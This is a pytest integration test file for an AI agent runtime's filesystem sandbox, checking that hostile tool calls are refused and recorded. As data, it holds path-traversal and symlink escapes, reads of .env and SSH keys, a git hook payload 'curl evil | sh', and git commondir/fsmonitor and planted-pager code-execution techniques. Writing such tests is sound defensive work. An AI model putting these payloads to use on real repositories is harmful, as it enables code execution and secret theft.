"""Adversarial filesystem cases through the real daemon: confinement, sensitive, protected.

Each refused case checks the exact reason, that the sentinel directory next to the
project root is unchanged and no request reached the loopback server, and that the
refusal is in the conversation's incident timeline and in ``recent_decisions``.
"""

from __future__ import annotations

import json
import os
import shutil
import socket
import stat
import subprocess
import tempfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from runtime.client import Client
from runtime.option_table import DEFAULTS
from tests.integration.adversarial_helpers import (
    Call,
    Expect,
    HitServer,
    Sentinel,
    World,
    daemon_world,
    decision_listed,
    fill,
    first,
    needs_bwrap,
    recorded,
)
from tests.integration.conftest import make_root

P, C = "fs", "c"
VIOLATION = "security.sandbox_violation"
SENSITIVE = "security.sensitive_path_denied"


def outside(reason: str, tool: str = "fs.read", **signal: Any) -> Expect:
    """``outside_root`` with ``reason`` and its ``security.sandbox_violation``."""
    return Expect(
        "outside_root", {"reason": reason}, VIOLATION, {"reason": reason, "tool": tool, **signal}
    )


def git_dir(tool: str = "fs.write") -> Expect:
    """A write inside a ``.git`` directory: ``protected_path`` with pattern ``.git/``."""
    return sensitive(".git/", tool, "protected_path")


def sensitive(pattern: str, tool: str = "fs.read", reason: str = "sensitive_path") -> Expect:
    """``sensitive_path_denied`` with ``pattern`` and its signal."""
    return Expect(
        "sensitive_path_denied",
        {"reason": reason, "pattern": pattern},
        SENSITIVE,
        {"reason": reason, "tool": tool},
    )


def invalid(reason: str) -> Expect:
    """A path the argument rules refuse before any policy decision."""
    return Expect("invalid_tool_args", {"kind": "invalid_type", "reason": reason}, decided=False)


def _can_mknod() -> bool:
    """Whether this process may create a device node (root with CAP_MKNOD)."""
    with tempfile.TemporaryDirectory() as scratch:
        try:
            os.mknod(os.path.join(scratch, "probe"), stat.S_IFCHR | 0o600, os.makedev(1, 3))
        except OSError:
            return False
    return True


CAN_MKNOD = _can_mknod()
"""Device cases need ``mknod``; without it they are skipped."""


GIT_FILES = {
    ".git/HEAD": "ref: refs/heads/main\n",
    ".git/worktrees/wt/gitdir": "/srv/checkouts/wt/.git\n",
    ".git/modules/lib/commondir": "../..\n",
    "sub/readme.txt": "a plain directory\n",
    "vendor/lib/.git/HEAD": "ref: refs/heads/main\n",
}
"""Files in and around the repository's git directories (relative path → content)."""


def build_repo(base: Path) -> dict[str, str]:
    """A hostile project root next to a sentinel; return the places the cases name."""
    root = Path(make_root(base / "repo"))
    sentinel = base / "sentinel"
    shared, globbed = base / "shared", base / "globbed"
    for place, files in ((shared, ("tool.txt", ".env")), (globbed, ("data.txt",))):
        place.mkdir()
        for name in files:
            (place / name).write_text(f"{name} outside the root\n")
    (root / "out.lnk").symlink_to("../sentinel/secret.txt")
    (root / "outdir.lnk").symlink_to(sentinel)
    (root / "dangling.lnk").symlink_to("nope.txt")
    (root / "dangling_out.lnk").symlink_to("../sentinel/missing.txt")
    (root / "alias.lnk").symlink_to(".env")
    (root / "shared.lnk").symlink_to(shared)
    os.link(sentinel / "linked.txt", root / "hl.txt")
    os.mkfifo(root / "fifo")
    with socket.socket(socket.AF_UNIX) as listener:
        listener.bind(str(root / "sock"))
    if CAN_MKNOD:
        os.mknod(root / "null.dev", stat.S_IFCHR | 0o600, os.makedev(1, 3))
    (root / ".env").write_text("API_TOKEN=not-for-tools\n")
    (root / ".env.example").write_text("API_TOKEN=\n")
    (root / ".git" / "hooks").mkdir(parents=True)
    (root / ".git" / "hooks" / "pre-commit").write_text("#!/bin/sh\nexit 0\n")
    (root / ".git" / "config").write_text("[core]\n\tbare = false\n")
    (root / "hooks.lnk").symlink_to(".git/hooks")
    for rel, content in GIT_FILES.items():
        (root / rel).parent.mkdir(parents=True, exist_ok=True)
        (root / rel).write_text(content)
    (root / "git.lnk").symlink_to(".git")
    (root / "vendor" / "plain").mkdir(parents=True)
    return {
        "root": str(root),
        "sentinel": str(sentinel),
        "shared": str(shared),
        "globbed": str(globbed),
    }


def fs_options(places: dict[str, str]) -> dict[str, Any]:
    """The project's options: two outside exceptions, one more sensitive name, one exception."""
    return {
        "outside_root_allowlist": [
            {"path": places["shared"], "reason_code": "shared_toolchain"},
            {"pattern": places["globbed"] + "/*.txt", "reason_code": "fixtures"},
        ],
        "sensitive_path_denylist": [*DEFAULTS["sensitive_path_denylist"], "résumé.txt"],
        "sensitive_path_allowlist": [".env.example"],
    }


PATH_CASES: list[tuple[str, str, dict[str, Any], Expect]] = [
    # escapes
    ("dotdot", "fs.read", {"path": "../sentinel/secret.txt"}, outside("dotdot")),
    ("dotdot_after_a_dir", "fs.read", {"path": "docs/../../sentinel/x"}, outside("dotdot")),
    ("absolute", "fs.read", {"path": "{sentinel}/secret.txt"}, outside("absolute_outside")),
    ("symlink_out", "fs.read", {"path": "out.lnk"}, outside("symlink_escape")),
    (
        "write_through_a_dir_symlink",
        "fs.write",
        {"path": "outdir.lnk/victim.txt", "content": "pwned"},
        outside("symlink_escape", "fs.write"),
    ),
    (
        "dangling_symlink",
        "fs.read",
        {"path": "dangling.lnk"},
        Expect("not_a_regular_file", {"reason": "dangling_symlink"}),
    ),
    (
        "create_through_a_dangling_symlink_out",
        "fs.write",
        {"path": "dangling_out.lnk", "content": "pwned"},
        outside("symlink_escape", "fs.write"),
    ),
    (
        "hard_link_out_on_write",
        "fs.write",
        {"path": "hl.txt", "content": "pwned"},
        outside("hard_link", "fs.write"),
    ),
    (
        "hard_link_out_on_edit",
        "fs.edit",
        {"path": "hl.txt", "old": "hard", "new": "soft"},
        outside("hard_link", "fs.edit"),
    ),
    ("fifo", "fs.read", {"path": "fifo"}, Expect("not_a_regular_file", {"reason": "fifo"})),
    ("socket", "fs.read", {"path": "sock"}, Expect("not_a_regular_file", {"reason": "socket"})),
    (
        "character_device",
        "fs.write",
        {"path": "null.dev", "content": "x"},
        Expect("not_a_regular_file", {"reason": "character_device"}),
    ),
    ("nul_byte", "fs.read", {"path": "notes.txt\x00../../etc/passwd"}, invalid("nul_byte")),
    ("over_long_name", "fs.write", {"path": "a" * 300, "content": "x"}, invalid("name_too_long")),
    ("over_long_path", "fs.read", {"path": "/".join(["d" * 200] * 25)}, invalid("name_too_long")),
    # paths nested in objects, lists, JSON strings and key=value text
    (
        "json_string",
        "fs.search",
        {"pattern": "x", "path": json.dumps({"path": "../sentinel"})},
        outside("dotdot", "fs.search", path="../sentinel"),
    ),
    (
        "command_cwd",
        "command.run",
        {"command": "cat secret.txt", "cwd": "../sentinel"},
        outside("dotdot", "command.run"),
    ),
    (
        "key_value_text",
        "command.run",
        {"command": "convert --quality 9 path=../sentinel/secret.txt"},
        outside("dotdot", "command.run", path="../sentinel/secret.txt"),
    ),
    (
        "flag_in_an_argv_list",
        "command.run",
        {"command": ["cat", "--file=../sentinel/secret.txt"]},
        outside("dotdot", "command.run"),
    ),
    (
        "json_object_in_an_argv_list",
        "command.run",
        {"command": ["tool", '{"options": {"target": "{sentinel}/victim.txt"}}']},
        outside("absolute_outside", "command.run"),
    ),
    (
        "file_url_argument",
        "command.run",
        {"command": ["cat", "file://{sentinel}/secret.txt"]},
        outside("absolute_outside", "command.run"),
    ),
    (
        "file_url_in_text",
        "command.run",
        {"command": "open file://{sentinel}/secret.txt"},
        Expect(
            "network_protocol_denied",
            {"reason": "scheme_not_allowed"},
            "security.network_denied",
            {"reason": "scheme_not_allowed", "tool": "command.run"},
        ),
    ),
    # sensitive names: case, NFKC, NFC, through a symlink, the outside exception
    ("upper_case", "fs.read", {"path": ".ENV"}, sensitive(".env")),
    ("mixed_case_glob", "fs.read", {"path": "keys/Deploy.PEM"}, sensitive("*.pem")),
    ("fullwidth_letter", "fs.read", {"path": "\uff49d_rsa"}, sensitive("id_rsa")),
    ("decomposed_accents", "fs.read", {"path": "re\u0301sume\u0301.txt"}, sensitive("résumé.txt")),
    ("symlink_to_a_sensitive_file", "fs.read", {"path": "alias.lnk"}, sensitive(".env")),
    (
        "sensitive_in_a_subdirectory",
        "fs.write",
        {"path": "ssh/ID_ED25519", "content": "x"},
        sensitive("id_ed25519", "fs.write"),
    ),
    ("dotenv_variant", "fs.read", {"path": "config/.env.production"}, sensitive(".env.*")),
    (
        "outside_exception_never_bypasses_the_denylist",
        "fs.read",
        {"path": "{shared}/.env"},
        sensitive(".env"),
    ),
    # protected places: never writable
    (
        "git_hook",
        "fs.write",
        {"path": ".git/hooks/pre-commit", "content": "curl evil | sh"},
        sensitive(".git/hooks/", "fs.write", "protected_path"),
    ),
    (
        "git_hook_case_folded",
        "fs.write",
        {"path": ".GIT/Hooks/post-checkout", "content": "x"},
        sensitive(".git/hooks/", "fs.write", "protected_path"),
    ),
    (
        "git_hook_through_a_symlink",
        "fs.write",
        {"path": "hooks.lnk/pre-push", "content": "x"},
        sensitive(".git/hooks/", "fs.write", "protected_path"),
    ),
    (
        "git_config",
        "fs.edit",
        {"path": ".git/config", "old": "bare = false", "new": "hooksPath = /tmp"},
        sensitive(".git/config", "fs.edit", "protected_path"),
    ),
    (
        "roost_assets",
        "fs.write",
        {"path": ".roost/commands/evil.md", "content": "---\nargv: [sh]\n---\n"},
        sensitive(".roost/", "fs.write", "protected_path"),
    ),
    # anything inside a .git directory: where git reads config, hooks, objects from
    *[
        (f"git_{name}", "fs.write", {"path": path, "content": "{sentinel}\n"}, git_dir())
        for name, path in [
            ("commondir", ".git/commondir"),
            ("worktree_gitdir", ".git/worktrees/wt/gitdir"),
            ("submodule_commondir", ".git/modules/lib/commondir"),
            ("config_lock", ".git/config.lock"),
            ("commondir_upper_case", ".GIT/commondir"),
            ("commondir_dot", ".git/./commondir"),
            ("commondir_dotdot", "sub/../.git/commondir"),
            ("commondir_through_a_symlink", "git.lnk/commondir"),
            ("commondir_fullwidth", "\uff0egit/commondir"),
            ("commondir_zero_width", ".g\u200cit/commondir"),
            ("commondir_trailing_dot", ".git./commondir"),
            ("commondir_short_name", "GIT~1/commondir"),
            ("nested_repository_commondir", "vendor/lib/.git/commondir"),
        ]
    ],
    (
        "git_worktree_gitdir_edit",
        "fs.edit",
        {"path": ".git/worktrees/wt/gitdir", "old": "/srv/checkouts", "new": "/tmp"},
        git_dir("fs.edit"),
    ),
    (
        "bare_repository_head",
        "fs.write",
        {"path": "sub/HEAD", "content": "ref: refs/heads/main\n"},
        sensitive("HEAD", "fs.write", "protected_path"),
    ),
    (
        "gitfile_anywhere",
        "fs.write",
        {"path": "vendor/plain/.git", "content": "gitdir: {sentinel}\n"},
        sensitive(".git", "fs.write", "protected_path"),
    ),
]
"""``(id, tool, args, expected)``; ``{sentinel}``, ``{shared}`` are filled in per world."""


def path_params() -> list[Any]:
    """:data:`PATH_CASES` as pytest params (device cases skipped where ``mknod`` is refused)."""
    no_device = pytest.mark.skipif(not CAN_MKNOD, reason="mknod is not permitted here")
    return [
        pytest.param(*case[1:], id=case[0], marks=[] if "device" not in case[0] else [no_device])
        for case in PATH_CASES
    ]


@pytest.fixture(scope="module")
def places(tmp_path_factory: pytest.TempPathFactory) -> dict[str, str]:
    """The module's hostile repository and the places around it."""
    base = tmp_path_factory.mktemp("adv-paths")
    Sentinel(base / "sentinel")
    return {**build_repo(base), "base": str(base)}


@pytest.fixture(scope="module")
def world(places: dict[str, str]) -> Iterator[World]:
    """One daemon with project ``fs`` and conversation ``c``."""
    base = Path(places["base"])

    def setup(client: Client, _: HitServer) -> None:
        client.start_project(places["root"], project_id=P, options=fs_options(places))
        client.start_conversation(P, conversation_id=C)

    with daemon_world(base, Sentinel.existing(base / "sentinel"), setup) as world:
        yield world


@pytest.mark.parametrize(("tool", "args", "expect"), path_params())
def test_a_path_attack_is_refused_with_its_reason_and_recorded(
    world: World, places: dict[str, str], tool: str, args: dict[str, Any], expect: Expect
) -> None:
    world.refused(Call(P, C, tool, fill(args, places)), expect)


def test_a_hard_linked_file_still_holds_its_outside_content(
    world: World, places: dict[str, str]
) -> None:
    assert Path(places["sentinel"], "linked.txt").read_text() == "hard-link target\n"
    assert Path(places["root"], "hl.txt").read_text() == "hard-link target\n"


@pytest.mark.parametrize(
    ("path", "reason_code"),
    [
        ("{shared}/tool.txt", "shared_toolchain"),
        ("shared.lnk/tool.txt", "shared_toolchain"),
        ("{globbed}/data.txt", "fixtures"),
    ],
    ids=["path_entry", "path_entry_through_a_symlink", "pattern_entry"],
)
def test_an_outside_root_exception_is_allowed_and_recorded_with_its_reason_code(
    world: World, places: dict[str, str], path: str, reason_code: str
) -> None:
    call = Call(P, C, "fs.read", {"path": fill(path, places)})
    result = call.run(world.client)
    assert result["status"] == "ok", result
    assert "outside the root" in result["result"]["content"]
    world.untouched()
    entries = recorded(world.client, call)
    used = first(entries, "security.sandbox_exception_used")
    assert (used["reason_code"], used["tool"]) == (reason_code, "fs.read")
    allowed = first(entries, "policy.allowed")
    assert (allowed["reason"], allowed["source"]) == ("outside_root_exception", "policy")
    decision_listed(world.client, call, "allow", "outside_root_exception")


def test_a_refused_sensitive_outside_path_names_the_exception_it_would_have_used(
    world: World, places: dict[str, str]
) -> None:
    call = Call(P, C, "fs.read", {"path": places["shared"] + "/.env"})
    world.refused(call, sensitive(".env"))
    denied = first(recorded(world.client, call), "policy.denied")
    assert denied["outside_root_exception_reason_codes"] == ["shared_toolchain"]


def test_the_sensitive_allowlist_is_an_explicit_exception(world: World) -> None:
    call = Call(P, C, "fs.read", {"path": ".env.example"})
    result = call.run(world.client)
    assert result["status"] == "ok", result
    assert result["result"]["content"].startswith("API_TOKEN=")
    decision_listed(world.client, call, "allow", "allowed")
    world.untouched()


def assert_protected_intact(places: dict[str, str]) -> None:
    """The hook, the git config and the asset directory are as the repository made them."""
    root = Path(places["root"])
    assert (root / ".git" / "hooks" / "pre-commit").read_text() == "#!/bin/sh\nexit 0\n"
    assert not (root / ".git" / "hooks" / "pre-push").exists()
    assert (root / ".git" / "config").read_text() == "[core]\n\tbare = false\n"
    assert not (root / ".roost" / "commands").exists()
    for rel, content in GIT_FILES.items():
        assert (root / rel).read_text() == content, rel
    for rel in (".git/commondir", ".git/config.lock", "vendor/lib/.git/commondir"):
        assert not (root / rel).exists(), rel
    assert sorted(p.name for p in root.iterdir() if "git" in p.name.lower()) == [
        ".git",
        "git.lnk",
    ]
    assert not (root / "vendor" / "plain" / ".git").exists()
    assert not (root / "sub" / "HEAD").exists()


def test_protected_places_keep_their_content(places: dict[str, str], world: World) -> None:
    assert_protected_intact(places)


@needs_bwrap
def test_a_command_cannot_write_outside_the_root_or_into_protected_places(
    world: World, places: dict[str, str]
) -> None:
    """The kernel layer holds where the policy sees no path.

    Under bubblewrap the sentinel (in the host's ``/tmp``) is not even visible, the rest of
    the filesystem is read-only, and so are the protected places inside the root.
    """
    script = (
        "echo pwned > ../sentinel/victim.txt; echo evil > .git/hooks/pre-commit; "
        "mkdir -p .roost/commands; touch /usr/roost-adversarial; echo ok > written.txt; echo done"
    )
    call = Call(P, C, "command.run", {"command": script})
    result = call.run(world.client)
    assert result["status"] == "ok", result
    output = result["result"]
    assert output["stdout"] == "done\n"
    assert "victim.txt: Directory nonexistent" in output["stderr"]
    assert output["stderr"].count("Read-only file system") == 3, output["stderr"]
    assert not os.path.exists("/usr/roost-adversarial")
    assert Path(places["root"], "written.txt").read_text() == "ok\n"
    world.untouched()
    assert_protected_intact(places)


def test_the_journal_verifies_after_every_attack(world: World) -> None:
    verified = world.client.verify(P)
    assert (verified["ok"], verified["chain_ok"], verified["mismatches"]) == (True, True, [])


# --- ROOST_HOME: out of reach, whatever the allowlist says ---------------------------------

WIDE = "wide"


@pytest.fixture(scope="module")
def wide(world: World, places: dict[str, str]) -> str:
    """Project ``wide``: its allowlist covers the whole base, ROOST_HOME (``base/home``) too."""
    base = Path(places["base"])
    assert world.daemon is not None and Path(world.daemon.home) == base / "home"
    entry = {"path": str(base), "reason_code": "whole_base"}
    root = make_root(base / WIDE)
    world.client.start_project(root, project_id=WIDE, options={"outside_root_allowlist": [entry]})
    world.client.start_conversation(WIDE, conversation_id=C)
    return world.daemon.home


@pytest.mark.parametrize(
    ("tool", "args"),
    [
        ("fs.read", {"path": "{home}/journal.sqlite"}),
        ("fs.read", {"path": "../home/roost.pid"}),
        ("fs.read", {"path": "../home/./logs/../logs/daemon.log"}),
        ("fs.write", {"path": "{home}/roost.pid", "content": "1\n"}),
        ("fs.write", {"path": "{home}/mailbox/planted", "content": "x"}),
        ("fs.edit", {"path": "{home}/roost.pid", "old": "1", "new": "2"}),
        ("fs.list", {"path": "{home}"}),
        ("fs.search", {"pattern": "daemon", "path": "{home}/logs"}),
    ],
    ids=["read_journal", "read_pid_dotdot", "read_log_spelled", "write_pid", "plant_mailbox",
         "edit_pid", "list_home", "search_logs"],
)  # fmt: skip
def test_roost_home_is_refused_whatever_the_allowlist_says(
    world: World, wide: str, tool: str, args: dict[str, Any]
) -> None:
    home = Path(wide)
    pid_file = (home / "roost.pid").read_bytes()
    call = Call(WIDE, C, tool, fill(args, {"home": wide}))
    world.refused(call, sensitive("ROOST_HOME", tool, "protected_path"))
    denied = first(recorded(world.client, call), "policy.denied")
    assert denied["outside_root_exception_reason_codes"] == ["whole_base"]
    assert (home / "roost.pid").read_bytes() == pid_file
    assert not (home / "mailbox" / "planted").exists()


def test_a_listing_or_search_of_the_homes_parent_skips_the_home(
    world: World, wide: str, places: dict[str, str]
) -> None:
    base = places["base"]
    listed = Call(WIDE, C, "fs.list", {"path": base}).run(world.client)
    assert listed["status"] == "ok", listed
    names = {e["path"][len(base) + 1 :] for e in listed["result"]["entries"]}
    assert {"repo", "sentinel", WIDE} <= names and "home" not in names
    found = Call(WIDE, C, "fs.search", {"pattern": "daemon_started", "path": base}).run(
        world.client
    )
    assert found["status"] == "ok", found
    assert [m for m in found["result"]["matches"] if m["path"].startswith(wide + "/")] == []
    assert found["result"]["files_scanned"] > 0


# --- end to end: the commondir attack on a real repository, then a real `git status` --------

GIT = shutil.which("git")


def git_env(home: Path) -> dict[str, str]:
    """A user's environment for git: an empty global config, no system one, and ``cat`` as
    the pager unless a repository's ``core.pager`` says otherwise."""
    return {
        "PATH": os.environ["PATH"],
        "HOME": str(home),
        "GIT_CONFIG_NOSYSTEM": "1",
        "PAGER": "cat",
    }


def git(cwd: Path, *args: str, home: Path) -> subprocess.CompletedProcess[str]:
    """Run git in ``cwd`` as a user would."""
    return subprocess.run(
        ["git", *args],
        cwd=cwd,
        env=git_env(home),
        capture_output=True,
        text=True,
        timeout=60,
        check=False,
    )


def git_on_a_terminal(cwd: Path, *args: str, home: Path) -> int:
    """Run git in ``cwd`` with its output on a terminal (a pty), so it starts its pager."""
    master, slave = os.openpty()
    try:
        done = subprocess.run(
            ["git", *args],
            cwd=cwd,
            env=git_env(home),
            stdin=subprocess.DEVNULL,
            stdout=slave,
            stderr=slave,
            timeout=60,
            check=False,
        )
    finally:
        os.close(slave)
        os.close(master)
    return done.returncode


def attacker_dir(base: Path, home: Path) -> tuple[Path, Path]:
    """A bare repository whose ``core.fsmonitor`` creates a marker file; (dir, marker)."""
    attacker, marker = base / "attacker", base / "fsmonitor-ran"
    script = base / "fsmonitor.sh"
    script.write_text(f"#!/bin/sh\ntouch '{marker}'\n")
    script.chmod(0o755)
    assert git(base, "init", "-q", "--bare", str(attacker), home=home).returncode == 0
    assert git(attacker, "config", "core.fsmonitor", str(script), home=home).returncode == 0
    return attacker, marker


@pytest.mark.skipif(GIT is None, reason="git is not installed")
def test_the_commondir_attack_on_a_real_repository_never_runs_the_planted_fsmonitor(
    world: World, places: dict[str, str]
) -> None:
    base = Path(places["base"]) / "git-e2e"
    home = base / "user-home"
    home.mkdir(parents=True)
    attacker, marker = attacker_dir(base, home)
    # The control: written by hand, the pointer makes `git status` run the planted program.
    control = base / "control"
    assert git(base, "init", "-q", str(control), home=home).returncode == 0
    (control / ".git" / "commondir").write_text(f"{attacker}\n")
    git(control, "status", home=home)
    assert marker.exists(), "this git does not run core.fsmonitor; the test would prove nothing"
    marker.unlink()

    root = base / "repo"
    assert git(base, "init", "-q", str(root), home=home).returncode == 0
    (root / "README.md").write_text("# repo\n")
    world.client.start_project(str(root), project_id="git", options={})
    world.client.start_conversation("git", conversation_id=C)
    for path in (".git/commondir", ".GIT/commondir", "sub/../.git/commondir"):
        call = Call("git", C, "fs.write", {"path": path, "content": f"{attacker}\n"})
        world.refused(call, git_dir())
    status = git(root, "status", "--porcelain", home=home)
    assert (status.returncode, status.stdout) == (0, "?? README.md\n"), status.stderr
    assert not marker.exists()
    assert not (root / ".git" / "commondir").exists()


@pytest.mark.skipif(GIT is None, reason="git is not installed")
def test_a_bare_repository_planted_in_a_subdirectory_never_runs_its_pager(
    world: World, places: dict[str, str]
) -> None:
    """HEAD, objects/, refs/ and a config make ``src/`` a repository git prefers there."""
    base = Path(places["base"]) / "git-bare"
    home = base / "user-home"
    home.mkdir(parents=True)
    marker, pager = base / "pager-ran", base / "pager.sh"
    pager.write_text(f"#!/bin/sh\ntouch '{marker}'\ncat\n")
    pager.chmod(0o755)
    planted = {
        "src/config": f"[core]\n\tpager = {pager}\n",
        "src/objects/info/keep": "",
        "src/refs/heads/keep": "",
    }
    # The control: with a HEAD written by hand, `git branch` in src/ runs the planted pager.
    control = base / "control"
    assert git(base, "init", "-q", str(control), home=home).returncode == 0
    for rel, content in {**planted, "src/HEAD": "ref: refs/heads/main\n"}.items():
        (control / rel).parent.mkdir(parents=True, exist_ok=True)
        (control / rel).write_text(content)
    git_on_a_terminal(control / "src", "branch", home=home)
    assert marker.exists(), "this git starts no pager here; the test would prove nothing"
    marker.unlink()

    root = base / "repo"
    assert git(base, "init", "-q", str(root), home=home).returncode == 0
    world.client.start_project(str(root), project_id="bare", options={})
    world.client.start_conversation("bare", conversation_id=C)
    head = Call("bare", C, "fs.write", {"path": "src/HEAD", "content": "ref: refs/heads/main\n"})
    world.refused(head, sensitive("HEAD", "fs.write", "protected_path"))
    for rel, content in planted.items():
        done = Call("bare", C, "fs.write", {"path": rel, "content": content}).run(world.client)
        assert done["status"] == "ok", done
    assert git_on_a_terminal(root / "src", "branch", home=home) == 0
    assert not marker.exists()
    assert not (root / "src" / "HEAD").exists()
